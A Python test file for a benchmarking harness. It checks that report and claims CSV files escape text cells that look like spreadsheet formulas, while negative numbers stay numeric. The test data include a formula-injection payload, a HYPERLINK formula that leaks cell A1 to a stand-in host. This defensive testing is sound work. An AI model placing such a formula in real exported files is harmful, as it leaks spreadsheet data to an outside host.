"""The CSV files of the report and the claims open in a spreadsheet as data: a text cell that begins like a formula
('=', '+', '-', '@') is written as text, behind a single quote; numbers, negative ones too, stay numbers for pandas;
and harness.report.csvfile.read_csv gives the text back as it was."""

from __future__ import annotations

import csv
import json
import math
from unittest import mock

import pandas as pd
from _fuzz import OUT, check_outcome, cli, sandbox
from test_fuzz_inputs import CLAIM, place
from test_fuzz_results import made_suite

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"details")'
LABELS = {"sgd": FORMULA, "ddp": "@SUM(1+1)"}


def _labelled(i, spec, status, records):
    spec["label"] = LABELS[spec["method"]]
    for record in records:
        if record["kind"] == "cpu":
            record["machine_busy_s"] = 1.0  # less than the ranks' own CPU time: other_load is negative


def test_a_label_that_looks_like_a_formula_is_text_in_every_csv():
    with sandbox() as root:
        suite_dir = made_suite(root, _labelled)
        with mock.patch("harness.report.build.plots_module.suite_plots", lambda *args, **kwargs: []):  # plots: no CSV
            code, out, err = cli(["report", str(suite_dir)], root)
        check_outcome(code, err)
        assert code == 0, err
        claim = {**CLAIM, "method": FORMULA, "baseline": "@SUM(1+1)", "metric": "final_accuracy",
                 "statement": "-1 is = +2 @ noon"}
        claims = place(root, ("[[claim]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in claim.items())).encode(),
                       "c.claims.toml")
        code, out, err = cli(["claims", str(suite_dir), str(claims), "--out", "out"], root)
        check_outcome(code, err)
        assert code in (0, 1), err
        written = [*(suite_dir / "report").glob("*.csv"), root / OUT / "claims.csv"]
        assert {p.name for p in written} >= {"summary.csv", "rankings.csv", "comparisons.csv", "claims.csv"}
        for path in written:
            with path.open(newline="") as f:
                cells = [cell for row in csv.reader(f) for cell in row]
            for cell in cells:  # a cell a spreadsheet would run is a number (-0.5), never text
                if cell[:1] in ("=", "+", "-", "@"):
                    float(cell)
        with (suite_dir / "report" / "summary.csv").open(newline="") as f:
            rows = list(csv.DictReader(f))
        assert {row["label"] for row in rows} == {"'" + FORMULA, "'@SUM(1+1)"}
        assert all(row["other_load"].startswith("-") and float(row["other_load"]) < 0 for row in rows)
        table = pd.read_csv(suite_dir / "report" / "summary.csv")
        for column in ("other_load", "final_accuracy", "train_time_s", "bytes_per_sample"):
            assert table[column].dtype == float, column
        from harness.report.csvfile import read_csv

        assert set(read_csv(suite_dir / "report" / "summary.csv")["label"]) == set(LABELS.values())
        ranked = read_csv(suite_dir / "report" / "rankings.csv")
        assert set(ranked["label"]) == set(LABELS.values())
        verdicts = pd.read_csv(root / OUT / "claims.csv")
        assert verdicts.loc[0, "method"] == "'" + FORMULA and verdicts.loc[0, "statement"] == "'-1 is = +2 @ noon"
        assert not math.isnan(verdicts.loc[0, "estimate"])
